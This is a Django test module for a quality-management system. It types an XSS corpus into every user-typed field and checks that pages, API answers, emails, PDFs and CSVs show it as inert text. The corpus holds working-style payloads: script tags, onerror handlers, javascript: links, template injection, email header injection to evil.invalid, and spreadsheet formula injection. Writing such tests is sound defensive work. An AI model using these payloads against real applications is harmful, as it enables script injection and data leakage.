"""An XSS corpus typed into every text field a person can fill comes out inert everywhere the QMS shows, sends or
prints text: every page and API answer (the permission walk's URLs, as a quality manager and as an employee), the
notification emails of every kind, the PDFs (audit report, management review, CAPA summary, controlled copy, evidence
pack index) and the CSVs (register exports, evidence pack registers).

What "inert" means, per kind of output:
- HTML, parsed as a browser builds elements (html.parser): no element or attribute made by a payload (every tag a
  payload carries has its marker as an attribute name, so a tag that became an element shows it), no inline event
  handler at all, no `<script>` or `<style>` holding a marker, no `javascript:`, `vbscript:` or `data:` link, no
  image or stylesheet loaded from a URL a payload named. Markdown (idea comments) is held to the same rules.
- Text (emails, PDF text, CSV): template syntax is printed, never evaluated (`{% firstof "m" %}` evaluated prints
  `m`); an email's subject stays one line and no header is smuggled in through it.
- CSV: no cell starts with = + - @ tab or CR unless it is a number: a spreadsheet runs such a cell as a formula.
- PDF: WeasyPrint is asked for nothing but our static files; no script, launch action, form submission or
  attachment in the file. Downloads are named without a right-to-left override or a line break.

The fields are found by introspection: every CharField and TextField of the product's models, less those nobody
types (`_NOT_TYPED` and `_is_typed`: hashes, choices, keys the code builds, and fields whose validator lets no markup
through), so a field added tomorrow is covered the day it is added. The corpus is written on the seeded demo's rows
directly rather than through forms: this test is about what comes out, each form's validation is tested beside it,
and a hundred forms would make the test slow without showing more. One path through a real form and one through the
API (`test_text_typed_into_a_form_and_the_api_is_kept_as_typed_and_shown_as_text`) show that typed text is stored as
typed and reaches the same pages. Each test runs in a transaction that is rolled back: the session's demo is left as
it was.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import re
import unicodedata
import zipfile
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from datetime import timedelta
from functools import cache
from html.parser import HTMLParser
from typing import Any
from urllib.parse import quote, unquote

import markdown
from django.apps import apps
from django.core import mail
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.mail import EmailMultiAlternatives
from django.core.validators import EmailValidator, RegexValidator
from django.db import models
from django.db.models.functions import Cast, Concat
from django.template import Context, Template
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from pypdf import PdfReader
from pypdf.generic import DictionaryObject
from simple_history.models import HistoricalChanges

from audits import report as audit_report
from audits import services as audit_services
from audits.models import Audit
from capa.models import Capa
from capa.reminders import send_capa_digests
from documents.models import Revision
from documents.services import send_review_reminders
from improvement.models import Comment, Idea, StageChange
from qms.evidence import services as evidence_services
from qms.evidence.builder import build_pack
from qms.history import stamp
from qms.jobs import run_job
from qms.markdown import ALLOWED_TAGS, render_markdown
from qms.models import Job, Notification, User
from qms.pdf import StaticFilesOnlyFetcher
from qms.reviews import report as review_report
from qms.reviews import services as review_services
from qms.reviews.models import ManagementReview
from qms.tasks import send_invitation_email, send_notification_email
from tests.conftest import api_as, around_the_application
from tests.qms.test_permission_walk import World, _path, _routes

_PRODUCT_APPS = {"qms", "documents", "audits", "capa", "improvement"}
# Text fields nobody types, with the reason. Besides these, `_is_typed` leaves out fields with choices, fields the code
# fills (editable=False), hashes (`sha256`, `…_sha256`), content types (detected from a file's content) and fields
# whose validator admits only a pattern (usernames, e-mail addresses, slugs, document type codes).
_NOT_TYPED = {
    "qms.User.password": "a password hash",
    "qms.Notification.kind": "the name of the template the code chose",
    "qms.Notification.url": "a path the code builds with reverse(); the notification page redirects to it",
    "qms.Job.kind": "the name of the work the code chose",
    "qms.Sequence.key": "a counter's name the code builds",
    "qms.QueuedTask.task": "the dotted name of a Celery task",
    "qms.QueuedTask.last_error": "an exception's text, kept by the outbox for operators",
    "qms.Clause.number": "the catalogue's key, part of URLs (clauses/9.2/)",
    "qms.TrailSeal.record_model": "a model label the code writes",
    "qms.PendingSeal.record_model": "a model label the code writes",
    "documents.ReviewReminder.period": "a week key the code builds (2026-W14)",
}
_DERIVED_SUFFIXES = ("sha256", "content_type")
# Every row's text ends with its pk (" #123"), which keeps unique fields (a department's name) unique.
_ROW_SUFFIX_ROOM = 10

MARKER = re.compile(r"zqx\d{3}[a-z]")
_EVALUATED = re.compile(r"(zqx\d{3}[a-z])-evaluated")
_REASON_NUMBER = 999  # the marker number of the change reason written into the history


@dataclass(frozen=True)
class Payload:
    """One attack, written with `{m}` where its marker goes. Every HTML tag it carries has the marker as an
    attribute, so if the tag became an element the page shows an attribute named after the marker."""

    key: str
    name: str
    text: str
    multiline: bool = False

    def made(self, marker: str) -> str:
        return self.text.replace("{m}", marker)


CORPUS = [
    Payload("a", "script tag", "<script {m}>alert('{m}')</script>"),
    Payload("b", "event handler", "<img src=x onerror=alert(1) {m}>"),
    Payload("c", "SVG onload", "<svg onload=alert(1) {m}>"),
    Payload("d", "double-quoted attribute breakout", '"><img src=x onerror=alert(1) {m}>'),
    Payload("e", "single-quoted attribute breakout", "'><img src=x onerror=alert(1) {m}>"),
    Payload("f", "attribute added inside a quoted value", '" autofocus onfocus=alert(1) {m}="'),
    Payload("g", "attribute added to an unquoted value", "x onfocus=alert(1) {m} y"),
    Payload("h", "end of a raw-text element", "</textarea></title></style></script><script {m}>alert(1)</script>"),
    Payload("i", "javascript: links in Markdown", "[{m}](javascript:alert(1)) [{m}](JaVaScRiPt:alert(1))"),
    Payload("j", "javascript: image in Markdown", "![{m}](javascript:alert(1)) [{m}](java&#x09;script:alert(1))"),
    Payload("l", "autolink to javascript:", "<javascript:alert('{m}')>"),
    Payload("m", "reference-style javascript: link", "[{m}][x]\n\n[x]: javascript:alert(1)", multiline=True),
    Payload("n", "data: link", "[{m}](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    Payload("o", "remote image", "![{m}](https://tracker.invalid/{m}.png) <img src=https://tracker.invalid/{m}.png>"),
    Payload("p", "remote stylesheet", '<style {m}>@import url("https://tracker.invalid/{m}.css");</style>'),
    Payload("q", "template injection", '{{ "{m}"|add:"-evaluated" }} {% firstof "{m}" %}{% firstof "-evaluated" %}'),
    Payload("r", "mutation XSS", '<noscript {m}><p title="</noscript><img src=x onerror=alert(1) {m}>">'),
    Payload("s", "right-to-left override", "{m}\u202etxt.exe"),
    Payload("t", "header injection", "{m}\r\nBcc: {m}@evil.invalid\r\nX-Injected: {m}"),
]
# A field's text starts with one of these, so that every CSV cell a field becomes starts with a formula.
FORMULAS = [
    Payload("u", "spreadsheet formula (=)", '=HYPERLINK("https://evil.invalid/?{m}","{m}")'),
    Payload("v", "spreadsheet formula (+)", "+{m}+1"),
    Payload("w", "spreadsheet formula (-)", "-{m}-1"),
    Payload("x", "spreadsheet formula (@)", "@SUM({m})"),
    Payload("y", "spreadsheet formula (tab)", "\t=1+{m}"),
    Payload("z", "spreadsheet formula (CR)", "\r=1+{m}"),
]
# Text fields end with an unbroken word this long: wider than any column, longer than any cut a page makes.
LONG_WORD = 1000
# WeasyPrint lays out an unbroken word in a narrow table cell in a time that grows with the square of its length (a
# 5,000-character word makes the CAPA summary take 20 s), so what is printed holds a shorter one, still many lines.
PDF_LONG_WORD = 300


def _long(length: int) -> Payload:
    return Payload("k", "very long word", "{m}" + "W" * length, multiline=True)


@dataclass(frozen=True)
class TypedField:
    """A text field a person can type into, numbered for its markers (zqx007b: field 7, payload b)."""

    number: int
    model: type[models.Model]
    name: str
    max_length: int | None

    @property
    def label(self) -> str:
        return f"{self.model._meta.label}.{self.name}"

    def marker(self, payload: Payload) -> str:
        return f"zqx{self.number:03d}{payload.key}"

    def payloads(self, long_word: int = LONG_WORD) -> list[Payload]:
        """A formula first (a CSV cell starts with it), then as many of the corpus as fit, starting at a different
        attack for each field so that short fields between them carry all of it; text fields take it all."""
        room = (self.max_length or 100_000) - _ROW_SUFFIX_ROOM
        formulas = [formula for formula in _rotated(FORMULAS, self.number) if len(self._join([formula])) <= room]
        chosen = formulas[:1]
        for payload in [*_rotated(CORPUS, self.number), _long(long_word)]:
            if payload.multiline and self.max_length is not None:
                continue
            if len(self._join([*chosen, payload])) <= room:
                chosen.append(payload)
        return chosen

    def text(self, long_word: int = LONG_WORD) -> str:
        return self._join(self.payloads(long_word))

    def _join(self, payloads: list[Payload]) -> str:
        separator = " " if self.max_length else "\n\n"
        return separator.join(payload.made(self.marker(payload)) for payload in payloads)


def _rotated(payloads: list[Payload], by: int) -> list[Payload]:
    return payloads[by % len(payloads) :] + payloads[: by % len(payloads)]


def _is_typed(field: models.Field[Any, Any]) -> bool:
    if not isinstance(field, models.CharField | models.TextField):
        return False
    if field.choices or not field.editable or field.primary_key or _label(field) in _NOT_TYPED:
        return False
    if field.name.endswith(_DERIVED_SUFFIXES):
        return False
    return not any(isinstance(validator, RegexValidator | EmailValidator) for validator in field.validators)


@cache
def typed_fields() -> list[TypedField]:
    """Every text field of the product a person can put text into, in a stable order."""
    product = [
        model
        for model in apps.get_models()
        if model.__module__.split(".")[0] in _PRODUCT_APPS and not issubclass(model, HistoricalChanges)
    ]
    found = sorted(
        (field for model in product for field in model._meta.concrete_fields if _is_typed(field)), key=_label
    )
    return [
        TypedField(number=number, model=field.model, name=field.name, max_length=field.max_length)
        for number, field in enumerate(found, start=1)
    ]


def _label(field: models.Field[Any, Any]) -> str:
    return f"{field.model._meta.label}.{field.name}"


@cache
def _sources() -> dict[str, str]:
    """Marker → where it was typed and which attack it carries, to name the culprit in a failure."""
    sources = {
        field.marker(payload): f"{field.label} ({payload.name})"
        for field in typed_fields()
        for payload in [*CORPUS, *FORMULAS, _long(0)]
    }
    for payload in CORPUS:
        sources[f"zqx{_REASON_NUMBER}{payload.key}"] = f"a change reason in the history ({payload.name})"
    return sources


def _source(marker: str) -> str:
    return _sources().get(marker, marker)


def _reason() -> str:
    single_line = [payload for payload in CORPUS if not payload.multiline]
    return " ".join(payload.made(f"zqx{_REASON_NUMBER}{payload.key}") for payload in single_line)


def write_corpus(world: World | None = None, *, long_word: int = LONG_WORD) -> list[TypedField]:
    """Every typed field of every row of the demo holds its payloads; the walk's own records are saved once more
    through the model, with a hostile change reason, so their history pages show the payloads as changes."""
    fields = typed_fields()
    by_model: dict[type[models.Model], list[TypedField]] = {}
    for field in fields:
        by_model.setdefault(field.model, []).append(field)
    # Signatures are append-only in the database (qms/trail): written around the application, as an intruder with
    # database access would, so what signature blocks print is covered too.
    with around_the_application():
        for model, model_fields in by_model.items():
            texts = {field.name: _with_row_number(field, field.text(long_word)) for field in model_fields}
            model._base_manager.update(**texts)
    if world is not None:
        quality_manager = User.objects.get(username="qm")
        for record in vars(world).values():
            if isinstance(record, models.Model) and hasattr(type(record), "history"):
                record.refresh_from_db()
                stamp(record, actor=quality_manager, reason=_reason())
                record.save()
    return fields


def _with_row_number(field: TypedField, text: str) -> Concat:
    # Last, so that a CSV cell still starts with the formula.
    output = models.CharField() if field.max_length else models.TextField()
    return Concat(models.Value(text), models.Value(" #"), Cast("pk", models.CharField()), output_field=output)


# --- What counts as live ------------------------------------------------------------------------------------------

_URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background", "srcset"}
_FETCHING_ATTRIBUTES = {"src", "srcset", "poster", "background", "data"}
_REFUSED_SCHEMES = {"javascript", "vbscript", "data"}
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[-+]?\d+(\.\d+)?")


def _scheme(url: str) -> str:
    # Browsers ignore whitespace and control characters in and around a URL's scheme ("java\tscript:").
    cleaned = "".join(char for char in url if char > " ").lower()
    return cleaned.split(":", 1)[0] if ":" in cleaned else ""


class _Inspector(HTMLParser):
    """Reads HTML as a browser would build it and notes what a payload made live."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self._raw_text_of: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._element(tag, attrs)
        if tag in {"script", "style"}:
            self._raw_text_of = tag

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._element(tag, attrs)

    def handle_endtag(self, tag: str) -> None:
        if tag == self._raw_text_of:
            self._raw_text_of = None

    def handle_data(self, data: str) -> None:
        if self._raw_text_of is not None:
            self.problems += [f"a <{self._raw_text_of}> holds {_source(m)}" for m in MARKER.findall(data)]

    def _element(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if MARKER.search(tag):
            self.problems.append(f"<{tag[:40]}>: {_source(MARKER.search(tag).group())} became a tag")
        for name, value in attrs:
            value = value or ""
            marker = MARKER.search(name)
            if marker:
                self.problems.append(f"<{tag}> has the attribute {name!r}: {_source(marker.group())} became markup")
            elif name.startswith("on"):
                self.problems.append(f"<{tag} {name}={value[:40]!r}>: an inline event handler")
            # An image may be a data: URL (it runs nothing); a link or a frame may not.
            refused = _REFUSED_SCHEMES - {"data"} if tag == "img" else _REFUSED_SCHEMES
            if name in _URL_ATTRIBUTES and _scheme(value) in refused:
                self.problems.append(f"<{tag} {name}={value[:60]!r}>: a {_scheme(value)}: URL")
            fetched = (
                MARKER.search(value) if name in _FETCHING_ATTRIBUTES or (tag == "link" and name == "href") else None
            )
            if fetched:
                self.problems.append(f"<{tag} {name}={value[:60]!r}> loads a URL from {_source(fetched.group())}")


def html_problems(html: str) -> list[str]:
    inspector = _Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.problems + text_problems(html)


def text_problems(text: str) -> list[str]:
    return [f"template syntax in {_source(marker)} was evaluated" for marker in _EVALUATED.findall(text)]


def csv_problems(text: str) -> list[str]:
    problems = text_problems(text)
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            if cell.startswith(_FORMULA_STARTS) and not _NUMBER.fullmatch(cell):
                marker = MARKER.search(cell)
                culprit = _source(marker.group()) if marker else repr(cell[:40])
                problems.append(f"a cell a spreadsheet runs as a formula: {culprit}")
    return problems


def json_problems(data: Any) -> list[str]:
    """JSON is data, shown by whoever reads it; only the HTML it carries (a comment's Markdown, a board card) is
    markup, held to the rules of a page."""
    problems = text_problems(json.dumps(data, ensure_ascii=False))
    for key, value in _items(data):
        if isinstance(value, str) and (key in {"html", "card"} or key.endswith("_html")):
            problems += html_problems(value)
    return problems


def _items(data: Any) -> Iterator[tuple[str, Any]]:
    if isinstance(data, dict):
        for key, value in data.items():
            yield str(key), value
            yield from _items(value)
    elif isinstance(data, list):
        for value in data:
            yield from _items(value)


def pdf_problems(content: bytes) -> tuple[list[str], str]:
    """What in a PDF could act (scripts, launches, form submissions, attachments, script links), and its text."""
    reader = PdfReader(io.BytesIO(content))
    problems = []
    catalogue = reader.root_object
    for key in ("/OpenAction", "/AA", "/AcroForm"):
        if key in catalogue:
            problems.append(f"the PDF has {key}")
    names = catalogue.get("/Names")
    trees = names.get_object() if names is not None else None
    if isinstance(trees, DictionaryObject) and any(key in trees for key in ("/JavaScript", "/EmbeddedFiles")):
        problems.append("the PDF carries scripts or embedded files")
    if reader.attachments:
        problems.append(f"the PDF has attachments: {list(reader.attachments)}")
    for page in reader.pages:
        annotations = page.get("/Annots")
        for annotation in annotations.get_object() if annotations is not None else []:
            action = annotation.get_object().get("/A")
            action = action.get_object() if action is not None else {}
            if action.get("/S") in {"/JavaScript", "/Launch", "/SubmitForm", "/ImportData"}:
                problems.append(f"a link runs {action['/S']}")
            if _scheme(str(action.get("/URI", ""))) in _REFUSED_SCHEMES:
                problems.append(f"a link to {str(action['/URI'])[:60]!r}")
    text = "\n".join(page.extract_text() for page in reader.pages)
    return problems + text_problems(text), text


def header_problems(response: Any) -> list[str]:
    problems = []
    disposition = unquote(response.get("Content-Disposition", ""))
    if any(unicodedata.category(char) in {"Cc", "Cf"} for char in disposition):
        problems.append(f"a download is named with a control or bidi character: {disposition[:80]!r}")
    if _scheme(response.get("Location", "")) in _REFUSED_SCHEMES:
        problems.append(f"a redirect to {response['Location'][:60]!r}")
    return problems


@dataclass
class Outputs:
    """What the test has read: the problems found (each once, with where) and the markers seen anywhere."""

    problems: dict[str, set[str]] = dataclasses.field(default_factory=dict)
    seen: set[str] = dataclasses.field(default_factory=set)

    def read(self, where: str, found: Iterable[str], text: str) -> None:
        for problem in found:
            self.problems.setdefault(problem, set()).add(where)
        self.seen.update(MARKER.findall(text))

    def response(self, where: str, response: Any) -> None:
        """Any answer of the site, judged by its content type."""
        # Reading a streamed answer to its end closes it (the test client's wrapper); `close()` here would also end
        # the test's database connection, which Django closes when a request finishes.
        content = b"".join(response.streaming_content) if response.streaming else response.content
        kind = response.get("Content-Type", "").split(";")[0]
        found = header_problems(response)
        if response.status_code >= 500:
            found.append("a server error")
        text = content.decode(errors="replace") if kind != "application/pdf" else ""
        if kind == "text/html":
            found += html_problems(text)
        elif kind == "application/json":
            found += json_problems(json.loads(content)) if content else []
        elif kind == "text/csv":
            found += csv_problems(text)
        elif kind == "application/pdf":
            pdf_found, text = pdf_problems(content)
            found += pdf_found
        else:
            found += text_problems(text)
        self.read(where, found, text)

    def read_pdf(self, where: str, content: bytes) -> None:
        found, text = pdf_problems(content)
        self.read(where, found, text)

    def report(self) -> str:
        return "\n".join(
            f"{problem}\n    at {', '.join(sorted(where)[:4])}" for problem, where in self.problems.items()
        )


def _fields_seen(outputs: Outputs, fields: list[TypedField]) -> set[str]:
    numbers = {int(marker[3:6]) for marker in outputs.seen}
    return {field.label for field in fields if field.number in numbers}


# --- The tests ----------------------------------------------------------------------------------------------------


def test_the_corpus_covers_every_text_field_a_person_types() -> None:
    fields = {field.label: field for field in typed_fields()}
    for label in ("documents.Document.title", "capa.Capa.problem", "improvement.Comment.body", "qms.User.first_name"):
        assert label in fields
    for label in ("qms.User.username", "qms.User.email", "documents.Document.number", "capa.Capa.status"):
        assert label not in fields
    assert len(fields) > 80
    for field in fields.values():
        text = field.text()
        assert field.max_length is None or len(text) + _ROW_SUFFIX_ROOM <= field.max_length, field.label
        assert text.startswith(tuple(formula.made(field.marker(formula)) for formula in FORMULAS)), field.label
    long_fields = [field for field in fields.values() if field.max_length is None]
    assert all(len(field.payloads()) == len(CORPUS) + 2 for field in long_fields)
    # Between them, the short fields carry every attack.
    short = [field for field in fields.values() if field.max_length and field.max_length >= 100]
    assert {payload.key for field in short for payload in field.payloads()} >= {
        payload.key for payload in CORPUS if not payload.multiline
    }


def test_the_checks_catch_each_attack_where_it_would_come_out_live() -> None:
    """The checks are not blind: each attack, put out raw where it works, is caught by them."""
    for payload in CORPUS:
        text = payload.made(f"zqx000{payload.key}")
        live = [
            f"<p>{text}</p>",
            f'<input value="{text}">',
            f"<input value='{text}'>",
            f"<input value={text}>",
            markdown.markdown(text),  # Python-Markdown alone keeps raw HTML and any link
            Template(text).render(Context()),
        ]
        downloaded = {"Content-Disposition": f"attachment; filename*=UTF-8''{quote(text)}"}
        mailed = EmailMultiAlternatives(subject=text, body="")
        caught = [html_problems(page) for page in live] + [header_problems(downloaded), email_problems(mailed)]
        assert any(caught), payload.name
    for formula in FORMULAS:
        cell = io.StringIO()
        csv.writer(cell).writerow([formula.made(f"zqx000{formula.key}")])
        assert csv_problems(cell.getvalue()), formula.name
    assert not csv_problems("3,-2.5,+1,2026-03-01,'=1+2\r\n")


def test_markdown_keeps_nothing_live_from_the_corpus() -> None:
    comment = next(field for field in typed_fields() if field.label == "improvement.Comment.body")
    html = render_markdown(comment.text())
    assert not html_problems(html)
    assert set(re.findall(r"<(\w+)", html)) <= ALLOWED_TAGS
    assert MARKER.search(html)  # the text is still there, as text
    link = render_markdown("[the SOP](https://example.com/sop)")
    assert 'href="https://example.com/sop"' in link and 'rel="noopener noreferrer nofollow"' in link


# Typed fields no walked page prints, and where they are read instead.
_NOT_ON_THE_WALKED_PAGES = {
    "audits.AuditProgramme.objectives": "no form sets it and no page prints it (the admin shows it read-only)",
    "capa.ReminderDigest.summary": "the record of what a digest said; the email is read in the email test",
    "documents.PeriodicReview.comment": "in the history of a document that had a periodic review, not the walked one",
    "qms.SignatureFailure.record_label": "the security log, read in the admin",
}


def test_every_page_and_api_answer_shows_the_corpus_as_text(seeded_demo: Any) -> None:
    employee = User.objects.get(username="employee")
    world = World(employee)
    _talk_about(world.idea)
    fields = write_corpus(world)
    outputs = Outputs()
    routes = sorted(set(_routes()))
    # The API answers a browser (asking for HTML) with DRF's browsable page of the same data: walked too.
    for username, accept in [("qm", "*/*"), ("employee", "*/*"), ("qm", "text/html")]:
        client = Client(HTTP_ACCEPT=accept)
        client.force_login(User.objects.get(username=username))
        for route in routes:
            if accept == "text/html" and not route.startswith("api/v1/"):
                continue
            subject = world.subject(route)
            if subject.record is not None and subject.record.pk is None:
                continue
            path = _path(route, subject.arguments)
            outputs.response(f"{path} as {username} ({accept})", client.get(path))
    assert not outputs.problems, outputs.report()
    # The walk read what it was meant to: every attack, and every field but those no walked page prints.
    assert {marker[-1] for marker in outputs.seen} == {payload.key for payload in [*CORPUS, *FORMULAS, _long(0)]}
    assert any(marker.startswith(f"zqx{_REASON_NUMBER}") for marker in outputs.seen)  # the history's reasons
    unseen = {field.label for field in fields} - _fields_seen(outputs, fields)
    assert unseen <= set(_NOT_ON_THE_WALKED_PAGES), sorted(unseen - set(_NOT_ON_THE_WALKED_PAGES))


def _talk_about(idea: Idea) -> None:
    """The walked idea gets a comment and a move, so its page shows Markdown and the story of its stages."""
    someone = User.objects.get(username="qm")
    Comment.objects.create(idea=idea, author=someone, body="A comment")
    StageChange.objects.create(idea=idea, from_stage=idea.stage, to_stage=idea.stage, cycle=idea.cycle, actor=someone)


def test_notification_emails_of_every_kind_show_the_corpus_as_text(seeded_demo: Any, settings: Any) -> None:
    settings.NOTIFICATION_EMAILS = True
    write_corpus()
    last_before = Notification.objects.order_by("-pk").values_list("pk", flat=True).first() or 0
    today = timezone.localdate()
    for day in [today + timedelta(days=days) for days in (0, 7, 14, 31)]:
        send_review_reminders(today=day)
        audit_services.send_audit_reminders(today=day)
        send_capa_digests(today=day)
    sent = list(Notification.objects.filter(pk__gt=last_before))
    kinds = {path.stem for path in (settings.BASE_DIR / "templates" / "notifications").glob("*.txt")}
    assert {notification.kind for notification in sent} == kinds
    # And notifications whose own subject and body hold the corpus (as a record's title would put it there).
    sent += list(Notification.objects.filter(pk__lte=last_before).order_by("-pk")[:5])
    outputs = Outputs()
    for notification in sent:
        try:
            send_notification_email(notification.pk)
        except Exception as error:  # noqa: BLE001 - any failure to send is what this test reports
            outputs.read(f"notification {notification.pk}", [f"the email was not sent: {error!r}"], "")
    person = User.objects.get(username="employee")
    send_invitation_email(person.pk)
    Client().post(reverse("password_reset"), {"email": person.email})
    assert len(mail.outbox) > 10
    for message in mail.outbox:
        outputs.read(f"the email {message.subject[:50]!r}", email_problems(message), _all_text(message))
    assert not outputs.problems, outputs.report()
    assert {"documents.Document.title", "audits.Audit.title", "capa.Capa.title", "qms.User.first_name"} <= (
        _fields_seen(outputs, typed_fields())
    )


def email_problems(message: Any) -> list[str]:
    problems = text_problems(message.subject) + text_problems(message.body)
    if "\n" in message.subject or "\r" in message.subject:
        problems.append("the subject runs over more than one line")
    else:
        smuggled = [name for name in message.message() if name.lower() in {"bcc", "x-injected"}]
        if message.bcc or smuggled:
            problems.append(f"a header was smuggled in: {smuggled or message.bcc}")
    for content, kind in message.alternatives:
        if kind == "text/html":
            problems += html_problems(str(content))
    return problems


def _all_text(message: Any) -> str:
    return "\n".join([message.subject, message.body, *(str(content) for content, _ in message.alternatives)])


def test_pdfs_print_the_corpus_as_text_and_fetch_nothing_it_names(seeded_demo: Any, monkeypatch: Any) -> None:
    fetched = _record_fetches(monkeypatch)
    write_corpus(long_word=PDF_LONG_WORD)
    quality_manager = User.objects.get(username="qm")
    outputs = Outputs()
    audit = Audit.objects.filter(status__in=[Audit.Status.IN_PROGRESS, Audit.Status.REPORTING]).order_by("pk")[0]
    job = audit_services.audit_report_request(actor=quality_manager, audit=audit)
    run_job(job.pk, audit_report.render_report)
    outputs.read_pdf(f"the report of {audit.reference}", _job_file(job))
    review = ManagementReview.objects.order_by("pk")[0]
    job = review_services.review_pdf_request(actor=quality_manager, review=review)
    run_job(job.pk, review_report.render_report)
    outputs.read_pdf(f"the report of {review.reference}", _job_file(job))
    client = Client()
    client.force_login(quality_manager)
    capa = Capa.objects.order_by("pk")[0]
    pdf_revisions = Revision.objects.filter(status=Revision.Status.EFFECTIVE, content_type="application/pdf")
    revision = pdf_revisions.order_by("pk")[0]
    for where, path in [
        (f"the summary of {capa.reference}", reverse("capa:summary-pdf", args=[capa.pk])),
        (
            f"a controlled copy of {revision.document.number}",
            reverse("documents:controlled-copy", args=[revision.document_id, revision.revision]),
        ),
    ]:
        response = client.get(path)
        assert response["Content-Type"] == "application/pdf", where
        outputs.response(where, response)
    assert not outputs.problems, outputs.report()
    assert len(_fields_seen(outputs, typed_fields())) > 30
    assert fetched and all(url.startswith(_OUR_STATIC_FILES) for url in fetched), fetched


_OUR_STATIC_FILES = ("data:", "http://pdf-assets.invalid/static/")


def _record_fetches(monkeypatch: Any) -> list[str]:
    """Every URL WeasyPrint asks for, whether the fetcher serves or refuses it: asking at all means a payload made
    an element that loads something."""
    fetched: list[str] = []
    serve = StaticFilesOnlyFetcher.fetch

    def fetch(self: StaticFilesOnlyFetcher, url: str, headers: Any = None) -> Any:
        fetched.append(url)
        return serve(self, url, headers)

    monkeypatch.setattr(StaticFilesOnlyFetcher, "fetch", fetch)
    return fetched


def _job_file(job: Job) -> bytes:
    job.refresh_from_db()
    assert job.status == Job.Status.DONE, job.error
    with job.result_file.open("rb") as handle:
        return handle.read()


def test_the_evidence_pack_index_and_registers_are_inert(seeded_demo: Any, monkeypatch: Any) -> None:
    fetched = _record_fetches(monkeypatch)
    write_corpus(long_word=PDF_LONG_WORD)
    quality_manager = User.objects.get(username="qm")
    # The registers cover every record of the period; the index and the files, the clauses asked for. A few clauses
    # with records of every module keep the index PDF short.
    pack, job = evidence_services.evidence_pack_request(
        actor=quality_manager,
        period_start=timezone.localdate() - timedelta(days=730),
        period_end=timezone.localdate(),
        clauses=["6.2", "7.5", "9.2", "9.3", "10.2", "10.3"],
    )
    run_job(job.pk, build_pack)
    pack.refresh_from_db()
    outputs = Outputs()
    read = []
    with pack.file.open("rb") as handle, zipfile.ZipFile(handle) as archive:
        for name in archive.namelist():
            content = archive.read(name)
            if name.endswith(".csv"):
                outputs.read(name, csv_problems(content.decode()), content.decode())
            elif name == "index.html":
                outputs.read(name, html_problems(content.decode()), content.decode())
            elif name == "index.pdf" or name.startswith("management-reviews/"):
                outputs.read_pdf(name, content)
            else:
                continue  # the documents in force and audit reports, copied as they were stored
            read.append(name)
    assert {"index.html", "index.pdf", "registers/capas.csv"} <= set(read), read
    assert any(name.startswith("management-reviews/") for name in read), read
    assert not outputs.problems, outputs.report()
    assert len(_fields_seen(outputs, typed_fields())) > 30
    assert all(url.startswith(_OUR_STATIC_FILES) for url in fetched), fetched


def test_text_typed_into_a_form_and_the_api_is_kept_as_typed_and_shown_as_text(seeded_demo: Any) -> None:
    employee = User.objects.get(username="employee")
    quality_manager = User.objects.get(username="qm")
    title, text, name = _typed_text("zqx901"), _typed_text("zqx902", multiline=True), _typed_text("zqx903")
    browser = Client()
    browser.force_login(employee)
    outputs = Outputs()
    refused = browser.post(reverse("improvement:submit"), {"title": title, "proposal": text})
    assert refused.status_code == 400  # no problem given: the form comes back with what was typed
    outputs.response("the idea form shown again with its errors", refused)
    answer = browser.post(
        reverse("improvement:submit"),
        {
            "title": title,
            "problem": text,
            "proposal": text,
            "category": Idea.Category.QUALITY,
            "file": SimpleUploadedFile(f"{name}.txt", b"plain text", content_type="text/plain"),
        },
    )
    assert answer.status_code == 302, answer.content.decode()[:2000]
    idea = Idea.objects.latest("pk")
    # Kept as typed (a form trims the ends of a line, nothing else), never escaped on the way in.
    assert (idea.title, idea.problem) == (title.strip(), text.strip())
    assert "\u202e" not in idea.attachments.get().original_filename  # a file's name is kept without bidi controls
    browser.post(reverse("improvement:comment", args=[idea.pk]), {"body": text})
    outputs.response("the idea page after a form", browser.get(idea.get_absolute_url()))
    outputs.response("similar ideas while typing", browser.get(reverse("improvement:similar"), {"title": title}))
    manager = Client()
    manager.force_login(quality_manager)
    moved = manager.post(
        reverse("improvement:advance", args=[idea.pk]),
        {"to": Idea.Stage.ACCEPTED, "note": text},
        HTTP_ACCEPT="application/json",
    )
    assert moved.json()["ok"], moved.json()
    outputs.response("a card dragged on the board", moved)

    api = api_as(employee)
    created = api.post(
        "/api/v1/ideas/",
        {"title": title, "problem": text, "proposal": text, "category": Idea.Category.QUALITY},
        format="json",
    )
    assert created.status_code == 201, created.data
    assert (created.data["title"], created.data["problem"]) == (title.strip(), text.strip())
    comment = api.post(f"/api/v1/ideas/{created.data['id']}/comments/", {"body": text}, format="json")
    assert comment.status_code == 201, comment.data
    assert comment.data["body"] == text.strip()
    outputs.response("a comment through the API", comment)
    outputs.response(
        "the idea page after the API", manager.get(reverse("improvement:detail", args=[created.data["id"]]))
    )
    assert not outputs.problems, outputs.report()
    assert {marker[:6] for marker in outputs.seen} == {"zqx901", "zqx902", "zqx903"}


def _typed_text(prefix: str, *, multiline: bool = False) -> str:
    """The corpus as a person could type it into one box, marked with `prefix` (zqx9xx, outside the fields' numbers)."""
    chosen = [payload for payload in [FORMULAS[0], *CORPUS] if multiline or not payload.multiline]
    text = ("\n\n" if multiline else " ").join(payload.made(f"{prefix}{payload.key}") for payload in chosen)
    return text if multiline else text[:200]
